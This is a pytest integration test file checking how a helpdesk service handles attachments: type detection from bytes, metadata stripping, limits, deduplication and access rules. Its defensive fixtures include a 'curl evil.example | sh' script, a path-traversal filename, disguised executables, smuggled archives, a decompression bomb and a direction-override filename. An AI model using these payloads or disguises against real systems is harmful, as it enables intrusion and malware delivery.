"""Attachments against the real service: type from bytes, refusals, limits, metadata stripped, dedup, permissions."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
from PIL import Image

from desk_app.contract import API_PREFIX
from desk_app.server.storage import default_folder
from tests.helpers import INTEGRATION_KEY, ServiceProcess, login, start_service

GPS = 0x8825


def jpeg_with_gps(size: tuple[int, int] = (640, 480), colour: str = "navy") -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "PhoneMaker", "Model X"
    exif[GPS] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 3.0)}
    exif[0x9286] = "secret comment"
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", exif=exif.tobytes(), comment=b"camera comment")
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), colour: str = "green") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG")
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + b"\0" * 64)
    return out.getvalue()


def mp4(seconds: int = 12, tail: bytes = b"") -> bytes:
    """The smallest well-formed MP4: ftyp, a moov with its movie header, and media data."""
    ftyp = struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 0x200, b"isom")
    mvhd_body = struct.pack(">IIIII", 0, 0, 0, 1000, seconds * 1000) + b"\0" * 80
    mvhd = struct.pack(">I4s", 8 + len(mvhd_body), b"mvhd") + mvhd_body
    moov = struct.pack(">I4s", 8 + len(mvhd), b"moov") + mvhd
    mdat = struct.pack(">I4s", 8 + 64, b"mdat") + bytes(range(64))
    return ftyp + moov + mdat + tail


PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 120
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64


@dataclass
class Desk:
    url: str
    agent: dict[str, str]
    other: dict[str, str]

    def api(self, method: str, path: str, headers: dict[str, str] | None = None, **kwargs: Any) -> requests.Response:
        return requests.request(method, f"{self.url}{API_PREFIX}{path}", headers=headers, timeout=60, **kwargs)

    def ticket(self) -> dict[str, Any]:
        return self.api("GET", "/tickets?limit=1", self.agent).json()["items"][0]

    def inbound(self, files: list[tuple[str, bytes]], ticket: dict[str, Any] | None = None) -> requests.Response:
        ticket = ticket or self.ticket()
        body = {"channel": "email", "customer_id": ticket["customer_id"], "ticket_id": ticket["id"],
                "subject": "Screenshot", "body": "Please see the attached file", "language": "en",
                "attachments": [{"filename": name, "content_type": "image/png",
                                 "data_base64": base64.b64encode(data).decode()} for name, data in files]}
        return self.api("POST", "/inbound/messages", {"X-Integration-Key": INTEGRATION_KEY}, json=body)

    def upload(self, name: str, data: bytes, ticket_id: int | None = None,
               headers: dict[str, str] | None = None) -> requests.Response:
        return self.api("POST", f"/tickets/{ticket_id or self.ticket()['id']}/attachments",
                        self.agent if headers is None else headers, params={"filename": name}, data=data)

    def attachment(self, attachment_id: int, ticket_id: int) -> dict[str, Any]:
        for message in self.api("GET", f"/tickets/{ticket_id}/messages", self.agent).json():
            for item in message["attachments"]:
                if item["id"] == attachment_id:
                    return item
        raise AssertionError(f"attachment {attachment_id} is on no message of ticket {ticket_id}")


def _desk(service: ServiceProcess) -> Desk:
    bearer = lambda user: {"Authorization": f"Bearer {login(service.url, user)['access_token']}"}  # noqa: E731
    return Desk(service.url, bearer("agent1"), bearer("agent2"))


@pytest.fixture(scope="module")
def desk(service: ServiceProcess) -> Desk:
    return _desk(service)


def refused(response: requests.Response, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert response.json()["error"]["code"] == code, response.text


# --- what a file is, from its bytes ---------------------------------------------------------------


def test_a_jpeg_with_gps_exif_comes_back_with_none(desk: Desk) -> None:
    original = jpeg_with_gps()
    ticket = desk.ticket()
    sent = desk.inbound([("IMG_2041.JPG", original)], ticket)
    assert sent.status_code == 201, sent.text
    item = desk.attachment(sent.json()["attachment_ids"][0], ticket["id"])
    assert (item["kind"], item["content_type"], item["width"], item["height"]) == ("image", "image/jpeg", 640, 480)
    assert item["filename"] == "IMG_2041.JPG" and item["has_thumbnail"]

    served = desk.api("GET", f"/attachments/{item['id']}", desk.agent)
    assert served.status_code == 200
    assert served.headers["Content-Type"] == "image/jpeg"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Disposition"].startswith("attachment;")
    assert served.content != original  # never the original bytes
    assert len(served.content) == item["size"]
    image = Image.open(io.BytesIO(served.content))
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info and "comment" not in image.info and "icc_profile" not in image.info
    for marker in (b"PhoneMaker", b"secret comment", b"camera comment", b"Exif\x00\x00"):
        assert marker not in served.content
    assert image.size == (640, 480)


def test_images_get_a_small_png_thumbnail(desk: Desk) -> None:
    ticket = desk.ticket()
    sent = desk.inbound([("wide.png", png((1600, 900)))], ticket)
    assert sent.status_code == 201, sent.text
    thumbnail = desk.api("GET", f"/attachments/{sent.json()['attachment_ids'][0]}/thumbnail", desk.agent)
    assert thumbnail.status_code == 200 and thumbnail.headers["Content-Type"] == "image/png"
    width, height = Image.open(io.BytesIO(thumbnail.content)).size
    assert width <= 320 and height <= 240 and (width, height) == (320, 180)


def test_a_gif_keeps_its_first_frame_as_png(desk: Desk) -> None:
    frames = [Image.new("RGB", (30, 20), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=b"hidden")
    ticket = desk.ticket()
    sent = desk.inbound([("anim.gif", out.getvalue())], ticket)
    assert sent.status_code == 201, sent.text
    item = desk.attachment(sent.json()["attachment_ids"][0], ticket["id"])
    assert (item["content_type"], item["filename"]) == ("image/png", "anim.png")
    image = Image.open(io.BytesIO(desk.api("GET", f"/attachments/{item['id']}", desk.agent).content))
    assert image.format == "PNG" and image.convert("RGB").getpixel((5, 5)) == (255, 0, 0)


@pytest.mark.parametrize(("name", "data", "code"), [
    pytest.param("receipt.png", PE, "attachment_executable", id="pe-named-png"),
    pytest.param("photo.jpg", ELF, "attachment_executable", id="elf-named-jpg"),
    pytest.param("statement.pdf", MACH_O, "attachment_executable", id="mach-o-named-pdf"),
    pytest.param("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n", "attachment_executable", id="shebang-script"),
    pytest.param("invoice.pdf", zip_bytes(), "attachment_archive", id="zip-named-pdf"),
    pytest.param("screenshot.png", RAR, "attachment_archive", id="rar-named-png"),
    pytest.param("statement.pdf", PDF + zip_bytes(), "attachment_archive", id="pdf-with-zip-appended"),
    pytest.param("recording.mp4", mp4(tail=zip_bytes()), "attachment_archive", id="mp4-with-zip-appended"),
    pytest.param("report.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "attachment_archive", id="ole"),
    pytest.param("blob.bin", bytes(range(256)) * 4, "attachment_type_not_allowed", id="unknown-binary"),
    pytest.param("image.bmp", b"BM" + b"\0" * 200, "attachment_type_not_allowed", id="bmp"),
    pytest.param("empty.txt", b"", "attachment_type_not_allowed", id="empty"),
])
def test_refused_whatever_the_name_says(desk: Desk, name: str, data: bytes, code: str) -> None:
    ticket = desk.ticket()
    before = desk.api("GET", f"/tickets/{ticket['id']}/messages", desk.agent).json()
    refused(desk.upload(name, data, ticket["id"]), 415, code)
    response = desk.inbound([("fine.png", png()), (name, data)], ticket)
    refused(response, 415, code)
    assert response.json()["error"]["field"] == "attachments.1"
    assert desk.api("GET", f"/tickets/{ticket['id']}/messages", desk.agent).json() == before  # nothing stored


def test_a_docx_is_refused_as_an_archive(desk: Desk) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as document:
        document.writestr("[Content_Types].xml", "<Types/>")
        document.writestr("word/document.xml", "<w:document/>")
    refused(desk.upload("letter.docx", out.getvalue()), 415, "attachment_archive")


@pytest.mark.parametrize("cut", [0.5, 0.9])
def test_a_truncated_image_is_refused_and_crashes_nothing(desk: Desk, service: ServiceProcess, cut: float) -> None:
    for data in (jpeg_with_gps(), png((300, 300))):
        truncated = data[: int(len(data) * cut)]
        refused(desk.upload("broken.jpg", truncated), 422, "attachment_unreadable")
        refused(desk.inbound([("broken.png", truncated)]), 422, "attachment_unreadable")
    assert desk.api("GET", "/healthz").status_code == 200
    assert "Traceback" not in service.log_path.read_text(errors="replace")


def test_a_decompression_bomb_is_refused_before_decoding(desk: Desk) -> None:
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, "PNG")  # 144 megapixels in a few kilobytes
    assert len(out.getvalue()) < 100_000
    response = desk.upload("bomb.png", out.getvalue())
    refused(response, 422, "attachment_unreadable")


@pytest.mark.parametrize(("name", "data", "kind", "content_type", "filename"), [
    pytest.param("statement.pdf", PDF, "pdf", "application/pdf", "statement.pdf", id="pdf"),
    pytest.param("invoice.exe", PDF, "pdf", "application/pdf", "invoice.exe.pdf", id="pdf-named-exe"),
    pytest.param("../../etc/passwd", b"root:x:0:0\n", "text", "text/plain", "passwd.txt", id="path"),
    pytest.param("log.txt", "Ошибка 502 ‮ тест\n".encode(), "text", "text/plain", "log.txt", id="utf8-text"),
    pytest.param("screen.mp4", mp4(), "video", "video/mp4", "screen.mp4", id="mp4"),
    pytest.param("receipt.png", jpeg_with_gps((40, 30)), "image", "image/jpeg", "receipt.jpg", id="jpeg-named-png"),
    pytest.param("inv\u202egnp.pdf", PDF, "pdf", "application/pdf", "inv\u202egnp.pdf", id="direction-override"),
])
def test_accepted_files_keep_a_safe_name_of_their_real_type(desk: Desk, name: str, data: bytes, kind: str,
                                                            content_type: str, filename: str) -> None:
    response = desk.upload(name, data)
    assert response.status_code == 201, response.text
    item = response.json()
    assert (item["kind"], item["content_type"], item["filename"]) == (kind, content_type, filename)
    assert item["message_id"] is None and item["has_thumbnail"] == (kind == "image")
    served = desk.api("GET", f"/attachments/{item['id']}", desk.agent)
    assert served.headers["Content-Type"].split(";")[0] == content_type
    if kind != "image":
        assert served.content == data  # only images are rewritten
    else:
        assert served.content != data


def test_a_recording_longer_than_ten_minutes_is_refused(desk: Desk) -> None:
    refused(desk.upload("long.mp4", mp4(seconds=3600)), 415, "attachment_type_not_allowed")


def test_a_damaged_recording_is_refused(desk: Desk) -> None:
    refused(desk.upload("cut.mp4", mp4()[:-10]), 422, "attachment_unreadable")


# --- sending with a reply, and who sees what ------------------------------------------------------


def test_an_upload_goes_out_with_its_reply_and_only_then_do_others_see_it(desk: Desk) -> None:
    ticket = desk.ticket()
    upload = desk.upload("steps.txt", b"1. open the app\n2. tap Withdraw\n", ticket["id"])
    assert upload.status_code == 201, upload.text
    item = upload.json()
    assert desk.api("GET", f"/attachments/{item['id']}", desk.agent).status_code == 200
    refused(desk.api("GET", f"/attachments/{item['id']}", desk.other), 404, "not_found")  # not sent yet

    stolen = desk.api("POST", f"/tickets/{ticket['id']}/messages", desk.other,
                      json={"body": "mine now", "attachment_ids": [item["id"]]})
    refused(stolen, 422, "attachment_unusable")  # another agent's upload

    elsewhere = desk.api("GET", "/tickets?limit=2", desk.agent).json()["items"][1]["id"]
    refused(desk.api("POST", f"/tickets/{elsewhere}/messages", desk.agent,
                     json={"body": "wrong ticket", "attachment_ids": [item["id"]]}), 422, "attachment_unusable")

    reply = desk.api("POST", f"/tickets/{ticket['id']}/messages", desk.agent,
                     json={"body": "Here are the steps", "attachment_ids": [item["id"]]})
    assert reply.status_code == 201, reply.text
    assert [a["id"] for a in reply.json()["attachments"]] == [item["id"]]
    assert desk.attachment(item["id"], ticket["id"])["message_id"] == reply.json()["id"]
    assert desk.api("GET", f"/attachments/{item['id']}", desk.other).content == b"1. open the app\n2. tap Withdraw\n"
    again = desk.api("POST", f"/tickets/{ticket['id']}/messages", desk.agent,
                     json={"body": "Once more", "attachment_ids": [item["id"]]})
    refused(again, 422, "attachment_unusable")  # a file goes out with one message


def test_attachments_need_a_signed_in_agent(desk: Desk) -> None:
    ticket = desk.ticket()
    item_id = desk.inbound([("s.png", png())], ticket).json()["attachment_ids"][0]
    for headers in ({}, {"X-Integration-Key": INTEGRATION_KEY}, {"Authorization": "Bearer nope"}):
        for path in (f"/attachments/{item_id}", f"/attachments/{item_id}/thumbnail"):
            assert desk.api("GET", path, headers).status_code == 401
        assert desk.upload("a.txt", b"hello", ticket["id"], headers=headers).status_code == 401
    refused(desk.api("GET", "/attachments/999999999", desk.agent), 404, "not_found")
    refused(desk.upload("a.txt", b"hello", 999_999_999), 404, "not_found")
    text = desk.upload("a.txt", b"hello", ticket["id"]).json()
    refused(desk.api("GET", f"/attachments/{text['id']}/thumbnail", desk.agent), 404, "not_found")


# --- stored once, by digest; limits ---------------------------------------------------------------


@pytest.fixture(scope="module")
def both(any_service: ServiceProcess) -> Desk:
    return _desk(any_service)


def _store_folder(service: ServiceProcess) -> Path:
    """Where the service keeps files by default: beside a SQLite database, else in its data folder."""
    return default_folder(service.args[service.args.index("--database-url") + 1])


def _stored_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def test_the_same_file_is_stored_once(both: Desk, any_service: ServiceProcess) -> None:
    folder = _store_folder(any_service)
    image = jpeg_with_gps((333, 222), "olive")
    ticket = both.ticket()
    first = both.inbound([("a.jpg", image)], ticket).json()["attachment_ids"][0]
    files_after_first = _stored_files(folder)
    second = both.inbound([("b.jpg", image)], ticket).json()["attachment_ids"][0]
    upload = both.upload("c.jpg", image, ticket["id"]).json()
    assert len({first, second, upload["id"]}) == 3  # three attachments ...
    digests = {both.attachment(i, ticket["id"])["sha256"] for i in (first, second)} | {upload["sha256"]}
    assert len(digests) == 1  # ... of one stored file
    digest = digests.pop()
    stored = [p for p in _stored_files(folder) if p.name == digest]
    assert len(stored) == 1 and stored[0].read_bytes() == both.api("GET", f"/attachments/{first}", both.agent).content
    assert b"Exif" not in stored[0].read_bytes()  # the original is on no disk either
    if folder.is_relative_to(any_service.workdir):  # a folder of this service's alone: nothing new was written
        assert _stored_files(folder) == files_after_first


@pytest.fixture(scope="module")
def strict(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    directory = tmp_path_factory.mktemp("strict")
    with start_service(directory, extra_args=["--attachment-max-mb", "0.05", "--attachment-max-count", "2",
                                              "--attachments-dir", str(directory / "files")]) as running:
        desk = _desk(running)
        desk.workdir = directory  # type: ignore[attr-defined]
        yield desk


def test_size_and_count_limits(strict: Desk) -> None:
    limit = int(0.05 * 1024 * 1024)
    ok = strict.upload("fits.txt", b"a" * limit)
    assert ok.status_code == 201, ok.text
    refused(strict.upload("big.txt", b"a" * (limit + 1)), 413, "attachment_too_large")
    chunked = strict.upload("big.txt", iter([b"a" * 40_000, b"a" * 40_000]))  # no Content-Length
    refused(chunked, 413, "attachment_too_large")
    refused(strict.inbound([("big.txt", b"a" * (limit + 1))]), 413, "attachment_too_large")
    refused(strict.inbound([("1.png", png()), ("2.png", png()), ("3.png", png())]), 422, "too_many_attachments")
    assert strict.inbound([("1.png", png()), ("2.png", png((10, 10)))]).status_code == 201
    ticket = strict.ticket()
    ids = [strict.upload(f"{n}.txt", f"file {n}".encode(), ticket["id"]).json()["id"] for n in range(3)]
    refused(strict.api("POST", f"/tickets/{ticket['id']}/messages", strict.agent,
                       json={"body": "three files", "attachment_ids": ids}), 422, "too_many_attachments")


def test_attachments_dir_is_where_files_go(strict: Desk) -> None:
    item = strict.upload("where.txt", b"stored in the configured folder").json()
    folder: Path = strict.workdir / "files"  # type: ignore[attr-defined]
    assert [p.name for p in folder.rglob(item["sha256"])] == [item["sha256"]]
    assert not (strict.workdir / "attachments").exists()  # type: ignore[attr-defined]


def test_invalid_base64_names_the_field(desk: Desk) -> None:
    ticket = desk.ticket()
    body = {"channel": "email", "customer_id": ticket["customer_id"], "ticket_id": ticket["id"], "subject": "x",
            "body": "x", "language": "en", "attachments": [{"filename": "a.png", "data_base64": "not base64!"}]}
    response = desk.api("POST", "/inbound/messages", {"X-Integration-Key": INTEGRATION_KEY}, json=body)
    refused(response, 422, "validation_error")
    assert response.json()["error"]["field"] == "attachments.0.data_base64"
